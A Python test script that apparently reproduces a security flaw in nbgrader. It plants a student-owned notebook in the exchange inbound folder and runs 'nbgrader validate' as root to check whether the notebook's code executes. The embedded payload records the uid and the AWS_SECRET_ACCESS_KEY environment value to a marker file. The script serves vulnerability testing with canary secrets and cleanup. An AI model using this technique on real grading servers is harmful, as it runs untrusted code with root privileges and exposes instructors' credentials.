"""a19: a08 on the exchange: a40mallory's own notebook in inbound (owned by her, in a folder named inbound: both of the
guard's tests would refuse it), validated by the TA (root) from /tmp and, as a control, from the course folder."""
import sys, stat, pwd; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
MARK = "/tmp/a40-a19-PWNED"
def user(name):
    try: pwd.getpwnam(name)
    except KeyError: subprocess.run(["useradd", "-M", "-s", "/usr/sbin/nologin", name], check=True)
root = make_course("a19"); os.chmod(root, 0o755)
ex = f"{root}/exchange"; inbound = f"{ex}/distcourse/inbound"
os.makedirs(inbound); os.chmod(ex, 0o755); os.chmod(f"{ex}/distcourse", 0o755); os.chmod(inbound, stat.S_ISGID | 0o733)
user("a40mallory")
nbformat.write(hostile(f"import os\nopen({MARK!r}, 'w').write(f'uid={{os.getuid()}} AWS={{os.environ.get(\"AWS_SECRET_ACCESS_KEY\")}}')"), "/tmp/a40-mal.ipynb")
os.chmod("/tmp/a40-mal.ipynb", 0o644)
d = f"{inbound}/a40mallory+{A}+2026-11-29 13:00:00.000000 UTC+m"
subprocess.run(["runuser", "-u", "a40mallory", "--", "/bin/sh", "-c", f"mkdir '{d}' && cp /tmp/a40-mal.ipynb '{d}/{A}.ipynb'"], check=True)
print("owner of the notebook:", pwd.getpwuid(os.stat(f"{d}/{A}.ipynb").st_uid).pw_name)
for cwd in (root, "/tmp"):
    if os.path.exists(MARK): os.unlink(MARK)
    p = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", f"{d}/{A}.ipynb"], cwd=cwd, capture_output=True, text=True,
                       env=dict(os.environ, **ENV_CANARY), timeout=300)
    print(f"validate from {cwd}: rc={p.returncode}; MARKER:", open(MARK).read() if os.path.exists(MARK) else "none (not run)")
if os.path.exists(MARK): os.unlink(MARK)
os.unlink("/tmp/a40-mal.ipynb")
